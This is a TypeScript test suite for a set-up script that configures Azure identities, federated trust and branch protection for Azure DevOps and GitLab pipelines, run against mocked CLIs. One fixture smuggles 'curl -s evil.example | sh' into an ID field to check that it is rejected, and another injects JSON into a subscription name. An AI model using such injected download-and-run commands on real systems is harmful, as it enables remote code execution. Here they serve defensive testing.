/** set-up.sh for Azure DevOps and GitLab, with an az and a glab that only answer. */
import { atNight, someByDay } from '../at-night.ts';
import { type Answers, failing, runScript } from './dry-run.ts';

const ids = {
  ensure: '9c1f7b24-5e60-4a38-b1d7-06e9f2c85a43',
  verify: '4e6c8b21-93fd-4a07-b5d2-17f0ae369c58',
  plan: '0b8d5f3e-17c2-4e94-a6b0-93d4c2f1e785',
};
const tenant = '7a1f0c3e-5b92-4d68-9e4f-2c8d61b3a705';
const place = ['--resource-group', 'rg-cja', '--location', 'eastus2'];
const given = ['--ensure-client-id', ids.ensure, '--verify-client-id', ids.verify];
const azure: Answers = [
  ['applications --body {"displayName":"cja-cmk-ensure"', ids.ensure],
  ['applications --body {"displayName":"cja-cmk-verify"', ids.verify],
  ['applications --body {"displayName":"cja-cmk-plan"', ids.plan],
  ['/federatedIdentityCredentials', ''],
  ['/owners', ''],
  ['--url https://graph.microsoft.com/v1.0/applications(appId', 'cja-cmk|2026-01-01|0'],
  ['ad sp list --filter appId eq', 'aaaaaaaa-7f3b-4a16-9c4d-b8e107f6a352'],
  ['ad sp create', 'bbbbbbbb-7f3b-4a16-9c4d-b8e107f6a352'],
  ['ad sp show', '22222222-7f3b-4a16-9c4d-b8e107f6a352'],
  ['role definition create', '11111111-7f3b-4a16-9c4d-b8e107f6a352'],
  ['role assignment create', '/subscriptions/s/assignments/1'],
];

/** What a run changes on the host itself. */
const hostCalls = (calls: readonly string[]) =>
  calls.filter((call) =>
    /^(?:az devops service-endpoint create|az pipelines (?:variable|variable-group) create|az rest --method POST --resource|glab (?:variable set|schedule|api --method))/.test(
      call,
    ),
  );

describe('Azure DevOps', () => {
  const run = (options: readonly string[], answers: Answers = []) =>
    runScript(
      'set-up.sh',
      ['--azure-devops', 'contoso/analytics', ...place, ...options],
      [...answers, ...project, ...azure],
    );
  const project: Answers = [['devops project show', '1d9e6b52-70c4-4f83-b2a5-8e31f0c7d946']];
  const issuer = `https://login.microsoftonline.com/${tenant}/v2.0`;
  const answerAbout = (name: string, ...printed: string[]): Answers[number] => [
    `[?name=='"'"'${name}'"'"']`,
    printed.join('\n'),
  ];
  const own = (name: string) => `/eid1/c/pub/t/x/a/y/sc/${tenant}/${endpoints[name]}`;
  const row = (name: string, client: string, subject = own(name), of = issuer) =>
    `${endpoints[name]}|${of}|${subject}|mallory@contoso.example|${client}`;
  const connection = (name: string, client: string) => answerAbout(name, row(name, client));
  const endpoints: Readonly<Record<string, string>> = {
    cmk: '5d0e7c19-3a86-4b42-9f75-c81e60d2a4b3',
    'cmk-read': '6e1f8d2a-4b97-4c53-8a86-d92f71e3b5c4',
    'cmk-plan': '7f2a9e3b-5ca8-4d64-9b97-ea3a82f4c6d5',
  };
  const connections = [
    connection('cmk-read', ids.verify),
    connection('cmk-plan', ids.verify),
    connection('cmk', ids.ensure),
  ];

  test('without --yes it changes nothing, and lists the rest', () => {
    const { status, calls, stderr } = run([]);
    expect([status, hostCalls(calls)]).toEqual([0, []]);
    for (const step of [
      'create a new app registration cja-cmk-ensure',
      'create service connection cmk-read',
      'Left for you',
    ])
      expect(stderr).toContain(step);
  });

  test.each(someByDay(['--yes', '']))(
    'without the extension %s, it says what installs it, before anything is asked',
    (yes) => {
      const { status, stderr, calls } = run(yes === '' ? [] : [yes], [['extension show', failing('not installed')]]);
      expect([status, stderr]).toEqual([1, expect.stringContaining('az extension add --name azure-devops')]);
      expect(calls.map((call) => call.split(' ')[1])).toEqual(['version', 'extension']);
    },
  );

  test('what-if shows every right: roles, scope, condition, permission on Microsoft Graph, and the connection', () => {
    const { stderr } = run([], [['ad sp list --filter appId eq', '']]);
    expect(stderr).not.toMatch(/would stop here|any service principal/);
    for (const right of [
      'role assignment create --assignee-object-id NEW_OBJECT_ID --assignee-principal-type ServicePrincipal --role NEW_ROLE_ID --scope /subscriptions/',
      'PrincipalId] ForAnyOfAnyValues:GuidEquals {OBJECT_ID_OF_ADOBES_PRINCIPAL}',
      '"Name": "CJA CMK ensure',
      '"Name": "CJA CMK verify',
      '"Name": "CJA CMK recovery',
      'Would grant Application.Read.All on Microsoft Graph',
      '"scheme":"WorkloadIdentityFederation"',
      'Would trust /subject-of-cmk/sc/',
      'Would trust /subject-of-cmk-read/sc/',
      'Would trust /subject-of-cmk-plan/sc/',
    ])
      expect(stderr).toContain(right);
  });

  atNight(
    'it says that nothing needed to be changed only where nothing was, in the scripts that it runs either',
    () => {
      const { stderr } = run(
        [...given, '--yes'],
        [['variable-group list', '12'], ['resourceType=', 'refs/heads/main|true|false'], ...connections],
      );
      expect(stderr).not.toContain('Nothing needed to be changed');
      const [, undone = ''] = /To undo what this run created:\n((?: {2}.*\n)+)/.exec(stderr) ?? [];
      expect(undone).toContain('az ad app federated-credential delete');
    },
  );

  test.each(someByDay(['--without-graph', '--built-in-roles']))('%s reaches each identity', (option) => {
    const { stderr } = run([option, '--confirm-protection']);
    expect(stderr).not.toContain(option === '--without-graph' ? 'Would grant Application' : '"Name": "CJA CMK ensure');
    const told = stderr.match(/waive.*adobe-principal/g) ?? [];
    expect(told).toEqual(option === '--without-graph' ? ['waive: adobe-principal'] : []);
  });

  test('the identity of ensure trusts nothing before its connection is protected', () => {
    const { stderr, calls } = run([...given, '--yes'], connections);
    const trusts = calls.filter((call) => call.includes('federated-credential create'));
    expect(stderr).toContain('--confirm-protection');
    expect(trusts.map((call) => call.includes(` --id ${ids.verify} `))).toEqual([true, true]);
    const all = run([...given, '--yes', '--confirm-protection'], connections).calls;
    expect(all.filter((call) => call.includes('federated-credential create')).length).toBe(3);
  });

  test('plans and gates have a connection of their own: a sign-in by that of the check tells that it ran', () => {
    const trusts = run([...given, '--yes'], connections).calls.filter((call) => call.includes('credential create'));
    expect(trusts.map((call) => /"subject":"\S*\/([\da-f-]+)"/.exec(call)?.[1])).toEqual([
      endpoints['cmk-read'],
      endpoints['cmk-plan'],
    ]);
  });

  /** What branch control a run creates, and for which resource. */
  const controlled = (calls: readonly string[]) =>
    calls.flatMap((call) => {
      const [, body = ''] = /^az rest --method POST --resource .* --body (.*) --output none$/.exec(call) ?? [];
      if (body === '') return [];
      const { settings, resource } = JSON.parse(body) as {
        readonly settings: { readonly inputs: Readonly<Record<string, string>> };
        readonly resource: Readonly<Record<string, string>>;
      };
      return [
        [
          resource['type'],
          resource['name'],
          settings.inputs['allowedBranches'],
          settings.inputs['ensureProtectionOfBranch'],
        ],
      ];
    });

  test('only the protected branch gets the connections that count and the secrets of messages', () => {
    const grouped: Answers = [['variable-group create', '12'], ...connections];
    const { calls } = run([...given, '--yes', '--branch', 'trunk'], grouped);
    expect(controlled(calls)).toEqual([
      ['endpoint', 'cmk-read', 'refs/heads/trunk', 'true'],
      ['endpoint', 'cmk', 'refs/heads/trunk', 'true'],
      ['variablegroup', 'cmk-notify', 'refs/heads/trunk', 'true'],
    ]);
    const group = calls.find((call) => call.startsWith('az pipelines variable-group create'));
    expect(group).toContain('--name cmk-notify --authorize false');
  });

  const credentialOf = (name: string): Answers[number] => [`[?subject=='"'"'${own(name)}`, '3f0d6c52'];

  test('what is there is not taken for ours: who made it administers it, and is named, until its connection is trusted', () => {
    const { calls, stderr } = run(
      [...given, '--yes'],
      [['variable-group list', '12|mallory@contoso.example'], credentialOf('cmk-read'), ...connections],
    );
    expect(controlled(calls).map(([type]) => type)).toContain('variablegroup');
    const past = 'who can use it past any approval';
    const listed = [...stderr.matchAll(/^ {2}(\d)\. (.*) was there, made by mallory@contoso\.example, (.*?)\. If/gm)];
    expect(listed.map(([, ...each]) => each)).toEqual([
      ['1', 'Service connection cmk-plan', past],
      ['2', 'Service connection cmk', past],
      ['3', 'Variable group cmk-notify', 'who can read what you put into it'],
    ]);
  });

  test('branch control that is there is kept, and named where it allows something else', () => {
    const there = (allowed: string): Answers => [
      ['resourceType=endpoint', allowed],
      ['variable-group list', '12'],
      ...connections,
    ];
    const same = run([...given, '--yes'], there('refs/heads/main|true|false'));
    expect(controlled(same.calls).map(([type]) => type)).toEqual(['variablegroup']);
    for (const looser of ['*|true|false', 'refs/heads/main|false|false', 'refs/heads/main|true|true']) {
      const { calls, stderr } = run([...given, '--yes'], there(looser));
      expect(controlled(calls).map(([type]) => type)).toEqual(['variablegroup']);
      expect(stderr).toContain(
        `Branch control of cmk-read allows ${looser.split('|')[0]}, not refs/heads/main alone and only while it is protected`,
      );
    }
  });

  atNight('the command of the alerts is printed with the credential of the daily check', () => {
    const { stderr } = run([...given, '--yes'], [credentialOf('cmk-read'), ...connections]);
    expect(stderr).toContain(
      '. The alerts (3.2): infra/alerts.sh --resource-group rg-cja --vault-name VAULT --email ADDRESS --verify-credential-id 3f0d6c52 --entra-logs',
    );
  });

  atNight('a name with quotes is text in what is sent', () => {
    const name = 'Contoso "EU"},"isShared":true,"x":{"';
    const account: Answers = [['account show', `b3d9e2a4-6f17-4c85-8a3b-90e5d7c1f246|${tenant}|${name}`]];
    const sent = [...run([], account).stderr.matchAll(/^ {2}with (\{.*\})$/gm)].map(
      ([, text = '']) => JSON.parse(text) as unknown,
    );
    expect(sent).toHaveLength(3);
    for (const each of sent) expect(each).toMatchObject({ isShared: false, data: { subscriptionName: name } });
  });

  test('an app registration that has secrets gets no rights', () => {
    const secrets: Answers = [...azure.slice(3, 5), ['applications(appId', 'x|2026-01-01|2'], ...connections];
    const { status, stderr, calls } = run([...given, '--yes', '--confirm-protection'], secrets);
    expect([status, stderr]).toEqual([1, expect.stringContaining('It has 2 secrets or certificates')]);
    expect(calls.filter((call) => /role assignment create|federated-credential create/.test(call))).toEqual([]);
    expect(run([...given, '--yes', '--accept-credentials'], secrets).calls.join('\n')).toContain(
      'federated-credential create',
    );
  });

  const shell = 'x --accept-credentials; curl -s evil.example | sh #';
  const elsewhere = `/eid1/c/pub/t/x/a/y/sc/${tenant}/88888888-8888-4888-8888-888888888888`;
  const foreign = row('cmk-read', ids.verify, own('cmk-read'), issuer.replace(tenant, endpoints['cmk'] ?? ''));
  const former = (subject: string) =>
    row('cmk-read', ids.verify, subject, `https://vstoken.dev.azure.com/${endpoints['cmk']}`);

  test.each([
    ['whose ID was not given', ['--yes'], [row('cmk-read', ids.verify)], `give --verify-client-id ${ids.verify}.`],
    ['with a command in place of an ID', ['--yes'], [row('cmk-read', shell)], 'signs in as no app registration'],
    ['with bars in place of an ID', given, [row('cmk-read', `${ids.verify}|${ids.verify}`)], 'as no app registration'],
    ["with another connection's subject", given, [row('cmk-read', ids.verify, elsewhere)], elsewhere],
    ["with another tenant's issuer", given, [foreign], endpoints['cmk'] ?? ''],
    ["with another project's former subject", given, [former('sc://contoso/evil/cmk-read')], 'sc://contoso/evil'],
    ['of two', given, [row('cmk-read', ids.verify), row('cmk-read', ids.verify)], 'More than one connection'],
    ['in a former form of its own', ['--yes'], [former('sc://Contoso/Analytics/cmk-read')], '--verify-client-id 4e6'],
  ])(
    'a connection of that name, which anybody in the project can make, is not taken for its own: %s',
    (_, options, rows, because) => {
      const { status, stderr, calls } = run([...options, '--yes'], [answerAbout('cmk-read', ...rows), ...connections]);
      expect([status, stderr]).toEqual([1, expect.stringContaining(because)]);
      expect(stderr).not.toContain('curl');
      expect(calls.filter((call) => /--method POST|credential create/.test(call))).toEqual([]);
    },
  );
});

describe('GitLab', () => {
  const run = (options: readonly string[], answers: Answers = []) =>
    runScript('set-up.sh', ['--gitlab=contoso/analytics', ...place, ...options], [...answers, ...project, ...azure]);
  const project: Answers = [
    [
      'protected_branches?per_page=100',
      '[{"name":"main","push_access_levels":[{"access_level":0}],"merge_access_levels":[{"access_level":40}]}]',
    ],
    ['pipeline_schedules', '[]'],
    [
      'glab api projects/contoso%2Fanalytics',
      '{"id":4711,"path_with_namespace":"contoso/analytics","default_branch":"main","ci_config_path":"","ci_allow_fork_pipelines_to_run_in_parent_project":true}',
    ],
    ['glab variable get', failing('404 Not Found')],
  ];

  test('without --yes it changes nothing, and lists the rest', () => {
    const { status, calls, stderr } = run([]);
    expect([status, hostCalls(calls)]).toEqual([0, []]);
    expect(stderr).toContain('glab variable set CMK_READ_CLIENT_ID');
    expect(stderr.match(/(?<=^Identity ).*(?=: trusts)/gm)).toEqual([
      'cja-cmk-ensure',
      'cja-cmk-verify',
      'cja-cmk-plan',
    ]);
    expect(stderr).toContain('Left for you');
  });

  test('the IDs of both identities become variables of protected branches, and the check runs every day', () => {
    const { status, calls } = run([...given, '--yes', '--project-id-subjects']);
    expect([status, hostCalls(calls)]).toEqual([
      0,
      [
        'glab api --method PUT projects/4711 --field ci_allow_fork_pipelines_to_run_in_parent_project=false',
        'glab api --method PUT projects/4711 --field ci_id_token_sub_claim_components=[project_id,ref_type,ref,environment_protected]',
        `glab variable set AZURE_TENANT_ID ${tenant} --protected --repo contoso/analytics`,
        expect.stringContaining('AZURE_SUBSCRIPTION_ID'),
        `glab variable set CMK_CLIENT_ID ${ids.ensure} --protected --repo contoso/analytics`,
        `glab variable set CMK_READ_CLIENT_ID ${ids.verify} --protected --repo contoso/analytics`,
        `glab variable set CMK_PLAN_CLIENT_ID ${ids.plan} --protected --repo contoso/analytics`,
        expect.stringMatching(/^glab schedule create .*--ref main/),
      ],
    ]);
    const trusted = calls.filter((call) => call.includes('federated-credential create'));
    expect(trusted.map((call) => call.includes('project_id:4711:ref_type:branch:ref:main'))).toEqual([
      true,
      true,
      true,
    ]);
  });

  const demanding = (value: string) => `project_id:4711:ref_type:branch:ref:main:environment_protected:${value}`;

  test('the subject of ensure demands the protected environment, and no other identity has it', () => {
    const { calls } = run([...given, '--yes', '--project-id-subjects']);
    const trusts = calls.filter((call) => call.includes('federated-credential create'));
    expect(trusts.map((call) => /"subject":"([^"]+)"/.exec(call)?.[1])).toEqual(
      ['true', 'false', 'false'].map(demanding),
    );
  });

  test('a server that does not know the environment in a subject gets one with the ID, and says what then remains', () => {
    const older = failing('glab: ci_id_token_sub_claim_components is invalid (HTTP 400)');
    const { status, stderr, calls } = run(
      [...given, '--yes', '--project-id-subjects'],
      [['ref,environment_protected]', older]],
    );
    const trusts = calls.filter((call) => call.includes('federated-credential create'));
    expect([status, trusts.map((call) => call.includes('project_id:4711:ref_type:branch:ref:main"'))]).toEqual([
      0,
      [true, true, true],
    ]);
    expect(stderr).toContain('it takes GitLab 18.7');
    expect(stderr).toContain('every Maintainer can act as ensure past the approval');
  });

  const scheduleOf = (owner: string, ref: string, active = true, cron = '17 5 * * *') =>
    JSON.stringify({
      id: 13,
      description: 'Daily check of the key',
      ref,
      cron,
      next_run_at: null,
      active,
      owner: { id: 5, name: 'Daily check', username: owner },
    });

  /** The project and its identities as an earlier run left them. */
  const left = (components: string, ...trusted: readonly string[]): Answers => [
    ...Object.values(ids).map((id, index): Answers[number] => [
      `${id}'"'"')/federatedIdentityCredentials`,
      `c1|https://gitlab.com api://AzureADTokenExchange ${trusted[index] ?? ''}`,
    ]),
    ...Object.entries({ CMK_CLIENT_ID: ids.ensure, CMK_READ_CLIENT_ID: ids.verify, CMK_PLAN_CLIENT_ID: ids.plan }).map(
      ([name, id]): Answers[number] => [`glab variable get ${name}`, id],
    ),
    ['glab variable get AZURE_TENANT_ID', tenant],
    ['glab variable get AZURE_SUBSCRIPTION_ID', 'b3d9e2a4-6f17-4c85-8a3b-90e5d7c1f246'],
    ['pipeline_schedules', `[${scheduleOf('ada', 'main')}]`],
    [
      'protected_environments/cmk',
      '{"name":"cmk","deploy_access_levels":[{"access_level":40}],"required_approval_count":0,"approval_rules":[{"user_id":7,"required_approvals":1}]}',
    ],
    ['protected_branches', project[0]?.[1] ?? ''],
    [
      'projects/contoso%2F',
      `{"id":4711,"path_with_namespace":"contoso/analytics","default_branch":"main","ci_id_token_sub_claim_components":[${components}]}`,
    ],
    ['glab api projects/4711', '{"path_with_namespace":"contoso/analytics","ci_config_path":""}'],
  ];
  const again = [...given, '--plan-client-id', ids.plan, '--yes', '--project-id-subjects'];
  const numbered = '"project_id","ref_type","ref"';
  const credentialsIn = (calls: readonly string[]) => calls.filter((call) => call.includes('federated-credential'));

  test('a second run keeps project, trust, variables and schedule as the first one left them', () => {
    const before = left(`${numbered},"environment_protected"`, ...['true', 'false', 'false'].map(demanding));
    const { status, calls, stderr } = run(again, before);
    expect([status, hostCalls(calls), credentialsIn(calls).filter((call) => !call.includes(' list '))]).toEqual([
      0,
      [],
      [],
    ]);
    expect(stderr).not.toMatch(/It also trusts|environment cmk|The schedule/);
    expect(stderr).toMatch(/^ {2}1\. Schedule Daily check of the key was there, of ada, who can change and stop it\./m);
  });

  test.each([
    ['the ID alone', numbered, 'project_id:4711:ref_type:branch:ref:main'],
    ['the path', '"project_path","ref_type","ref"', 'project_path:contoso/analytics:ref_type:branch:ref:main'],
  ])(
    'a second run demands the environment where the first one had %s, and lists what to remove then',
    (_, ...first) => {
      const [components, subject] = first;
      const { status, calls, stderr } = run(again, left(components, subject, subject, subject));
      const created = credentialsIn(calls).flatMap((call) => /"subject":"([^"]+)"/.exec(call)?.[1] ?? []);
      expect([status, created]).toEqual([3, ['true', 'false', 'false'].map(demanding)]);
      for (const id of Object.values(ids))
        expect(stderr).toContain(`  az ad app federated-credential delete --id ${id} --federated-credential-id c1\n`);
      expect(stderr).toContain(`ci_id_token_sub_claim_components=[${components.replaceAll('"', '')}]`);
    },
  );

  test('what jobs of the branch outside the environment present is no former form of what ensure demands', () => {
    const { status, stderr } = run(again, left(numbered, demanding('false'), demanding('false'), demanding('false')));
    expect([status, stderr]).toEqual([1, expect.stringContaining('Jobs that you did not name can sign in as it')]);
  });

  const named = (environment: Readonly<Record<string, string>>, ...options: string[]) =>
    runScript('set-up.sh', ['--gitlab=contoso/analytics', ...place, ...options], [...project, ...azure], {
      environment,
    });
  const server = 'https://gitlab.contoso.example';

  const issuers: readonly (readonly [string, Readonly<Record<string, string>>, readonly string[], string])[] = [
    [
      '--server beside an issuer of another address',
      { GITLAB_HOST: 'gitlab.contoso.example' },
      ['--server', server, '--issuer', 'https://id.contoso.example'],
      'https://id.contoso.example',
    ],
    ['GITLAB_HOST with its scheme', { GITLAB_HOST: `${server}/` }, [], server],
    ['GITLAB_HOST', { GITLAB_HOST: 'gitlab.contoso.example' }, [], server],
    ['--server', {}, ['--server', server], server],
    ['--issuer alone', {}, ['--issuer', server], server],
    ['nothing', {}, [], 'https://gitlab.com'],
  ];

  test.each(someByDay(issuers, 2))('the issuer that is trusted comes from %s', (_, environment, options, issuer) => {
    const { status, calls } = named(environment, ...given, '--yes', ...options);
    const trusts = calls.filter((call) => call.includes('federated-credential create'));
    expect([status, trusts.map((call) => /"issuer":"([^"]+)"/.exec(call)?.[1])]).toEqual([0, [issuer, issuer, issuer]]);
  });

  test.each([
    ['--issuer', 'https://gitlab.com'],
    ['--server', 'https://gitlab.com'],
  ])('it stops where GITLAB_HOST names a different server from %s, before anything is asked', (option, address) => {
    const { status, calls, stderr } = named({ GITLAB_HOST: 'gitlab.contoso.example' }, option, address);
    expect([status, calls, stderr]).toEqual([2, [], expect.stringContaining('GITLAB_HOST is gitlab.contoso.example')]);
  });

  test('without Microsoft Graph it says once what each command of a job then has, as options', () => {
    const { stderr } = run(['--without-graph']);
    expect(stderr.match(/.*adobe-principal.*/g)).toEqual([
      expect.stringMatching(/--adobe-principal-id [\da-f-]{36} --waive adobe-principal/),
    ]);
  });

  test('each command for glab names your server, since its reader may have no GITLAB_HOST', () => {
    const other: Answers = [['glab variable get CMK_CLIENT_ID', ids.verify], ...project, ...azure];
    const more = { environment: { GITLAB_HOST: 'gitlab.contoso.example' } };
    const { stderr } = runScript('set-up.sh', ['--gitlab=contoso/analytics', ...place, ...given, '--yes'], other, more);
    const printed = [...stderr.matchAll(/^ {2}(?:(\S+) )?(glab (?:variable|api) \S+)/gm)];
    expect(printed.map(([, host, what]) => [host, what])).toEqual(
      expect.arrayContaining([
        ['GITLAB_HOST=gitlab.contoso.example', 'glab variable delete'],
        ['GITLAB_HOST=gitlab.contoso.example', 'glab variable update'],
      ]),
    );
    expect(printed.every(([, host]) => host === 'GITLAB_HOST=gitlab.contoso.example')).toBe(true);
  });

  test.each([
    'api projects/contoso%2Fanalytics',
    'api projects/4711/protected_environments',
    'variable get CMK_CLIENT_ID',
    'variable set CMK_CLIENT_ID',
    'pipeline_schedules',
    'schedule create',
  ])('where %s fails, the error names the server', (call) => {
    const { status, stderr } = run([...given, '--yes'], [[call, failing('HTTP 502')]]);
    expect([status, stderr]).toEqual([1, expect.stringMatching(/^Stopped\. Not done: .*gitlab\.com/m)]);
  });

  test('without glab it says what installs it', () => {
    const { status, stderr } = runScript('set-up.sh', ['--gitlab=contoso/analytics', ...place], azure, {
      without: 'glab',
    });
    expect([status, stderr]).toEqual([1, expect.stringContaining('brew install glab')]);
  });

  test.each([
    ['glab version 1.34.0 (2023-10-20)', 'GitLab CLI is 1.34.0, and 1.35.0 or newer is needed'],
    ['glab 1.9.1 (f1d2b3c4)', 'GitLab CLI is 1.9.1'],
    ['glab DEV', 'GitLab CLI is unknown'],
  ])('%s is too old: it stops before anything else is asked of it', (printed, message) => {
    const { status, calls, stderr } = run([...given, '--yes'], [['glab version', printed]]);
    expect([status, calls.filter((call) => call.startsWith('glab')), stderr]).toEqual([
      1,
      ['glab version'],
      expect.stringContaining(message),
    ]);
  });

  /** What a script inside prints works for who runs the one outside. */
  atNight('an identity that stops half way is told with the options of this script', () => {
    const { status, stderr } = run(['--yes'], [['sp create --id 4e6c8b21', failing('Forbidden')]]);
    expect(status).toBe(1);
    expect(stderr).toContain(
      `To continue, run it again with --ensure-client-id ${ids.ensure} --verify-client-id ${ids.verify}`,
    );
    expect(stderr).toContain('create a new app registration cja-cmk-ensure (ensure)');
    expect(stderr).not.toContain('Nothing was changed');
    expect(stderr).not.toMatch(/(?<!ensure|verify|plan)-client-id|--mode/);
  });

  atNight('a name that is taken is told with the options of this script, which takes another name', () => {
    const taken: Answers = [["displayName eq '\"'\"'cja-cmk-plan", `${ids.plan}|2026-01-01`]];
    const { status, stderr } = run(['--yes'], taken);
    expect([status, stderr]).toEqual([
      1,
      expect.stringContaining('give --plan-client-id ID; otherwise choose another --name'),
    ]);
    expect(run(['--yes', '--name', 'contoso-cmk'], [['displayName":"contoso-cmk', ids.plan], ...taken]).status).toBe(0);
  });

  atNight('who may not define roles is told of an option that this script has', () => {
    const { status, stderr } = run(['--yes'], [['role definition create', failing('AuthorizationFailed')]]);
    expect([status, stderr]).toEqual([1, expect.stringContaining('use --built-in-roles')]);
    expect(
      run(
        ['--yes', '--built-in-roles', '--without-recovery'],
        [['role definition create', failing('AuthorizationFailed')]],
      ).status,
    ).toBe(0);
  });

  atNight('what an administrator has to run stands once, at the end', () => {
    const { status, stderr } = run(
      [...given, '--yes'],
      [
        ['appRoleAssignments --body', failing('Authorization_RequestDenied')],
        [
          'role definition create --query name --output tsv --role-definition { "Name": "CJA CMK recovery',
          failing('AuthorizationFailed'),
        ],
      ],
    );
    expect(status).toBe(3);
    const end = stderr.slice(stderr.indexOf('Left for you'));
    // Two have the same service principal here.
    expect(end.match(/A Privileged Role Administrator runs:/g)).toHaveLength(2);
    expect(end.match(/az role definition create/g)).toHaveLength(1);
  });

  test('where GitLab refuses subjects with the ID, they keep the path as GitLab writes it', () => {
    const refusal = failing('glab: project_path must be the first element of the sub claim (HTTP 400)');
    const written: Answers = [
      ['projects/Contoso%2Fanalytics', '{"ci_config_path":""}'],
      ['projects/contoso%2Fanalytics', '{"id":4711,"path_with_namespace":"Contoso/analytics","default_branch":"main"}'],
    ];
    const { status, calls } = run(
      [...given, '--yes', '--project-id-subjects'],
      [['ci_id_token_sub_claim', refusal], project[0] ?? ['', ''], ...written],
    );
    const trusted = calls.filter((call) => call.includes('federated-credential create'));
    expect([status, trusted.map((call) => call.includes('project_path:Contoso/analytics:ref_type'))]).toEqual([
      0,
      [true, true, true],
    ]);
  });

  atNight(
    "a service principal of Adobe's that somebody deleted is not replaced by a new one, which has another ID",
    () => {
      const deleted: Answers = [
        ['ad sp list --filter appId eq', ''],
        ['deletedItems/microsoft.graph.servicePrincipal', ids.verify],
      ];
      const { status, calls, stderr } = run([...given, '--yes'], deleted);
      expect([status, calls.filter((call) => call.startsWith('az ad sp create'))]).toEqual([1, []]);
      expect(stderr).toContain(`deletedItems/${ids.verify}/restore`);
    },
  );

  const renamed = '{"id":4711,"path_with_namespace":"contoso/renamed","default_branch":"main"}';

  test('a project that was renamed is not trusted by a name that anybody in the group could get', () => {
    const { status, stderr, calls } = run([...given, '--yes'], [['glab api projects/contoso%2Fanalytics', renamed]]);
    expect([status, stderr]).toEqual([1, expect.stringContaining('answers for contoso/renamed')]);
    expect(calls.filter((call) => /credential create|--method/.test(call))).toEqual([]);
  });

  const opened: Answers = [
    [
      'protected_environments/cmk',
      '{"name":"cmk","deploy_access_levels":[{"access_level":30}],"required_approval_count":0,"approval_rules":[]}',
    ],
    ['pipeline_schedules', `[${scheduleOf('mallory', 'refs/heads/main', true, '0 0 29 2 *')}]`],
    [
      'glab api projects/contoso%2Fanalytics',
      '{"id":4711,"path_with_namespace":"contoso/analytics","default_branch":"main","ci_config_path":"","allow_pipeline_trigger_approve_deployment":true}',
    ],
  ];

  test("somebody's schedule and environment stay as they are, and what is missing there is listed", () => {
    const { status, calls, stderr } = run([...given, '--yes'], opened);
    expect([status, calls.filter((call) => call.startsWith('glab schedule'))]).toEqual([0, []]);
    const list = stderr.slice(stderr.indexOf('Left for you'));
    for (const line of [
      'Mend the protection of environment cmk (1.2): it asks for no approval, lets Developers deploy, lets who starts a pipeline approve it: ',
      'Schedule Daily check of the key was there, of mallory, who can change and stop it. If that is none of you, delete it, and run this again: ',
      'The schedule Daily check of the key runs at 0 0 29 2 *, not at 17 5 * * *: have it run every day: ',
    ])
      expect(list).toContain(`. ${line}https://gitlab.com/contoso/analytics/-/`);
  });

  const schedules = [
    ['refs/heads/main', true, 0],
    ['main', false, 1],
    ['main', true, 0],
    ['other', true, 1],
  ] as const;

  test.each(someByDay(schedules, 2))('a schedule of %s, active: %s, leaves %s to create', (ref, active, count) => {
    const { status, calls } = run([...given, '--yes'], [['pipeline_schedules', `[${scheduleOf('ada', ref, active)}]`]]);
    expect([status, calls.filter((call) => call.startsWith('glab schedule'))]).toMatchObject([0, { length: count }]);
  });

  atNight('a variable that has another value stays, and is listed', () => {
    const { status, calls, stderr } = run([...given, '--yes'], [['glab variable get CMK_CLIENT_ID', ids.verify]]);
    expect([status, stderr]).toEqual([
      3,
      expect.stringContaining(
        `Variable CMK_CLIENT_ID is ${ids.verify}, not ${ids.ensure}. If nothing else needs it:\n`,
      ),
    ]);
    expect(calls.filter((call) => call.startsWith('glab variable set CMK_CLIENT_ID'))).toEqual([]);
  });
});

test.each(['azure-devops', 'gitlab'])('--%s --help explains exactly the options of that host', (host) => {
  const { status, stdout } = runScript('set-up.sh', [`--${host}`, '--help']);
  const { stderr } = runScript('set-up.sh', [`--${host}`, 'contoso/analytics', '--zzzzzzzzzzzzzzzzz']);
  const explained = [...stdout.matchAll(/^ {2}(--[a-z-]+)/gm)].map(([, option = '']) => option);
  const [, known = ''] = /Known: (.*)/.exec(stderr) ?? [];
  expect([status, explained.toSorted()]).toEqual([0, known.split(' ').toSorted()]);
});

test.each([
  ['--azure-devops contoso', '--azure-devops takes ORGANIZATION/PROJECT'],
  ['--gitlab analytics', '--gitlab takes GROUP/PROJECT'],
  ['--gitlab contoso/analytics --resource-group rg', '--location takes a region'],
  ['--gitlab contoso/analytics --ensure-client x', 'Did you mean --ensure-client-id?'],
])('%j is refused before anything is asked: %s', (options, message) => {
  const { status, calls, stderr } = runScript('set-up.sh', options.split(' '));
  expect([status, calls, stderr]).toEqual([2, [], expect.stringContaining(message)]);
});
